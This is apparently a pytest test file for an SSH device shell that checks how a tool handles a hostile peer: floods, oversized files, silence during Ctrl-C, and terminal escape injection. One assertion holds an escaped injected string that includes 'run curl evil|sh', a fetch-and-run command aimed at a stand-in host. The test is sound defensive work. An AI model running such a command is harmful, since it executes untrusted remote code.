"""What a device behind SSH answers instead of what it was asked for: one error, in no time, for no memory."""

from __future__ import annotations

import json
import os
import resource
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from support import hostile_ssh
from support.hostile_ssh import MODES
from support.interruption import interrupted

from edgekit.cli.main import run
from edgekit.devices.ssh.shell import Shell
from edgekit.errors import DeviceError

_SCRIPT = str(hostile_ssh.__file__)


def explain(exit_code: int, errors: Sequence[str]) -> DeviceError:
    return DeviceError("EK-CONNECT", f"lost ({exit_code}): {' '.join(errors)}")


def start(when: str, mode: str, timeout_s: float = 20) -> Shell:
    command = [sys.executable, "-I", "-S", _SCRIPT, when, mode]
    return Shell.start("bench", command, timeout_s=timeout_s, explain=explain)


def peak_megabytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10


def refused(work: Callable[[], object]) -> DeviceError:
    before, began = peak_megabytes(), time.monotonic()
    with pytest.raises(DeviceError) as caught:
        work()
    assert time.monotonic() - began < 18 and peak_megabytes() - before < 64
    assert caught.value.code == "EK-CONNECT"
    assert caught.value.message.isprintable() and len(caught.value.message) <= 2000
    return caught.value


@pytest.mark.parametrize("mode", [mode for mode in MODES if mode != "silence"])
def test_a_device_that_begins_so_is_given_up(mode: str) -> None:
    refused(lambda: start("start", mode).close())


@pytest.mark.parametrize("mode", [mode for mode in MODES if mode != "silence"])
def test_a_device_that_answers_so_is_given_up(mode: str) -> None:
    with start("ask", mode) as shell:
        refused(lambda: shell.do("facts"))
        began = time.monotonic()
        assert refused(lambda: shell.do("facts")).message == "the connection to bench is closed"
    assert time.monotonic() - began < 15 and shell._process.poll() is not None


@pytest.mark.parametrize("mode", ["eight gigabytes, and sends them", "less than it says", "a line without end"])
def test_a_file_is_no_longer_than_it_was_to_be(mode: str) -> None:
    with start("ask", mode) as shell:
        refused(lambda: shell.fetch("/tmp/outputs.npz", 4000))


def test_another_file_than_the_one_that_is_there_is_none() -> None:
    """On a real shell: what fits is taken, what is longer is not."""
    with Shell.start("bench", ["sh", "-c"], timeout_s=20, explain=explain) as shell:
        assert shell.fetch(__file__, 1 << 20) == Path(__file__).read_bytes()
        assert "another file" in refused(lambda: shell.fetch(__file__, 100)).message
    with Shell.start("bench", ["sh", "-c"], timeout_s=20, explain=explain) as shell:
        with pytest.raises(DeviceError, match="No such file") as caught:
            shell.fetch("/no/such/file", 1)
        assert caught.value.code == "EK-DEVICE" and shell.do("exec", "echo", "alive") == "alive"


def test_ctrl_c_is_heard_while_it_is_silent() -> None:
    assert interrupted(lambda: start("start", "silence")) < 2


def test_ctrl_c_is_heard_while_it_takes_nothing() -> None:
    """More is sent than a pipe holds, and nobody reads it: not even closing the pipe may wait for that."""

    def send() -> None:
        with start("ask", "silence") as shell:
            shell.do("put", "file", "0", "1", payload=bytes(32 << 20), timeout_s=60)

    assert interrupted(send) < 2


@pytest.mark.parametrize("mode", ["lines without end", "a line without end"])
def test_ctrl_c_is_heard_while_it_floods(mode: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """It would be given up by itself: here it may go on for as long as it wants to."""
    monkeypatch.setattr("edgekit.devices.ssh.shell._MOST_NOISE_BYTES", 1 << 60)
    assert interrupted(lambda: start("start", mode)) < 2


@pytest.mark.parametrize("arguments", [["doctor", "ssh://pi@x"], ["rollback", "--on", "ssh://pi@x", "--json"]])
def test_no_escape_reaches_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], arguments: list[str]
) -> None:
    program = tmp_path / "ssh"
    program.write_text(f'#!/bin/sh\nexec {sys.executable} -I -S {_SCRIPT} start "escapes, and its end" "$@"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
    assert run(arguments) == 4
    said = capfd.readouterr()
    if "--json" in arguments:
        assert json.loads(said.out)["error"]["code"] == "EK-CONNECT"
    assert all(line.isprintable() for line in said.out.splitlines())
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun curl evil|sh\\x9b" in said.err
    assert all(line.isprintable() for line in said.err.splitlines())
